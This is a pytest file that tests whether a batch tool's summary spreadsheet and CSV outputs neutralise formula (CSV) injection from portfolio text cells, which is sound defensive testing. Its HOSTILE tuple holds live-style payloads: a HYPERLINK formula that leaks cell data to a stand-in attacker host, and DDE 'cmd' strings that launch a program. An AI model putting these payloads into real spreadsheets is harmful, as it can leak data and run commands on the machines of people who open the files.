"""Issue 14 item 2: formula injection through a portfolio's text cells into summary.xlsx / summary.csv.

A site's id, city or state is text anyone can type into the portfolio sheet. Written as-is,
``=HYPERLINK(...)``, ``+cmd|...``, ``-2+3`` or ``@SUM(...)`` become live formulas when a project
manager opens the summary (OWASP "CSV Injection"). Every such text cell must come back from
openpyxl as a string cell (data type ``s``, quote prefix set) and, in the CSV, carry the OWASP
leading ``'``; numbers must stay numbers.
"""

from __future__ import annotations

import csv
import io
import sys
from pathlib import Path

import pandas as pd
import pytest
from openpyxl import load_workbook

from apex_nb.batch.runner import run_batch
from apex_nb.batch.summary import COLUMNS, FORMULA_PREFIXES, csv_safe, summary_csv, workbook_bytes

sys.path.insert(0, str(Path(__file__).resolve().parents[1]))
from batch.batchutil import options, portfolio_rows, write_csv

HOSTILE = (
    '=HYPERLINK("http://attacker.invalid/?leak="&A2,"Click for details")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=1+1",
)


def _hostile_portfolio(tmp_path: Path) -> Path:
    header, rows = portfolio_rows(("QF-CHI-002", "QF-IND-026"))
    rows[0] = {**rows[0], "city": HOSTILE[0][:80], "state": HOSTILE[1]}
    rows[1] = {**rows[1], "city": HOSTILE[2], "state": HOSTILE[3][:40]}
    bad = dict(rows[0])
    bad.update(site_id=HOSTILE[4], city=HOSTILE[3][:80], exposure="Q")  # invalid row: its id is listed too
    return write_csv(tmp_path / "hostile.csv", header, [*rows, bad])


def _string_cells(path: Path) -> list:
    book = load_workbook(path)
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row if cell.value is not None]


def test_batch_outputs_are_inert(tmp_path: Path) -> None:
    out = tmp_path / "out"
    result = run_batch(options(_hostile_portfolio(tmp_path), out, skip_invalid=True))
    assert not result.failed and len(result.portfolio.invalid_rows) == 1
    cells = _string_cells(out / "summary.xlsx")
    hostile_cells = [c for c in cells if isinstance(c.value, str) and c.value.startswith(FORMULA_PREFIXES)]
    assert {c.value for c in hostile_cells} >= {HOSTILE[1], HOSTILE[2], HOSTILE[4]}
    assert all(c.data_type == "s" and c.quotePrefix for c in hostile_cells), [
        (c.coordinate, c.data_type) for c in hostile_cells if c.data_type != "s"
    ]
    assert not [c for c in cells if c.data_type == "f"], "no formula cell anywhere in the workbook"
    sites = load_workbook(out / "summary.xlsx")["Sites"]
    header = [c.value for c in sites[1]]
    price = header.index("Price (USD)") + 1
    priced = [sites.cell(row=r, column=price) for r in range(2, 5) if sites.cell(row=r, column=price).value]
    assert len(priced) == 2 and all(c.data_type == "n" and isinstance(c.value, float) for c in priced)

    rows = list(csv.DictReader((out / "summary.csv").open(encoding="utf-8")))
    texts = [value for row in rows for value in row.values() if value]
    assert not [t for t in texts if t.startswith(FORMULA_PREFIXES)], "a CSV cell starts with a formula character"
    assert "'" + HOSTILE[1] in texts and "'" + HOSTILE[2] in texts and "'" + HOSTILE[4] in texts
    assert all(float(r["price_total_usd"]) > 0 for r in rows if r["status"] == "ok")


@pytest.mark.parametrize("text", ["\t=1+1", "\r=1+1", "-1", "+1", "@x", "=A1", "-2+3"])
def test_every_prefix_is_neutralised(text: str, tmp_path: Path) -> None:
    """Tab and CR cannot come through a sheet (cells are stripped), so they are checked here directly."""
    frame = pd.DataFrame(
        [{"row": 2, "site_id": "S-1", "city": text, "state": text, "status": "ok", "price_total_usd": -5.0}],
        columns=list(COLUMNS),
    )
    assert csv_safe(text) == "'" + text
    parsed = next(csv.DictReader(io.StringIO(summary_csv(frame), newline="")))
    assert parsed["city"] == "'" + text and parsed["price_total_usd"] == "-5.0"  # a negative number stays a number
    path = tmp_path / "s.xlsx"
    path.write_bytes(workbook_bytes(tmp_path, frame, [], "t"))
    sheet = load_workbook(path)["Sites"]
    header = [c.value for c in sheet[1]]
    city = sheet.cell(row=2, column=header.index("City") + 1)
    assert city.value == text.replace("\r", "\n")  # XML turns a CR into LF on reading
    assert city.data_type == "s" and city.quotePrefix
    money = sheet.cell(row=2, column=header.index("Price (USD)") + 1)
    assert money.value == -5.0 and money.data_type == "n"


def test_plain_text_and_numbers_are_untouched() -> None:
    assert csv_safe("Atlanta") == "Atlanta" and csv_safe(-2.5) == -2.5 and csv_safe(3) == 3
